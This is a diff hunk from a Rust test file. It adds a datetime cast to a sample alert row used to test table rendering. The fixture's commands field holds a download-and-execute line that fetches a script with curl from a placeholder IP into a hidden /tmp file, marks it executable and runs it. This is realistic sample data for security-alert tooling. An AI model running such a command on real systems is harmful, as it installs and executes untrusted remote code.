@@ -22,7 +22,7 @@ fn table(query: &str, width: Option<usize>, color: bool) -> String {
 /// A row like those of rules: long lists, long values, a number, a null.
 const ALERT: &str = r#"ROW host.name = "web-01", count = 5,
     commands = ["curl -s http://198.51.100.23/a.sh -o /tmp/.a; chmod +x /tmp/.a; /tmp/.a", "id"],
-    user.name = null, seen = "2026-03-26T09:14:00.000Z""#;
+    user.name = null, seen = "2026-03-26T09:14:00.000Z"::datetime"#;
 
 #[test]
 fn narrow_and_wide() {
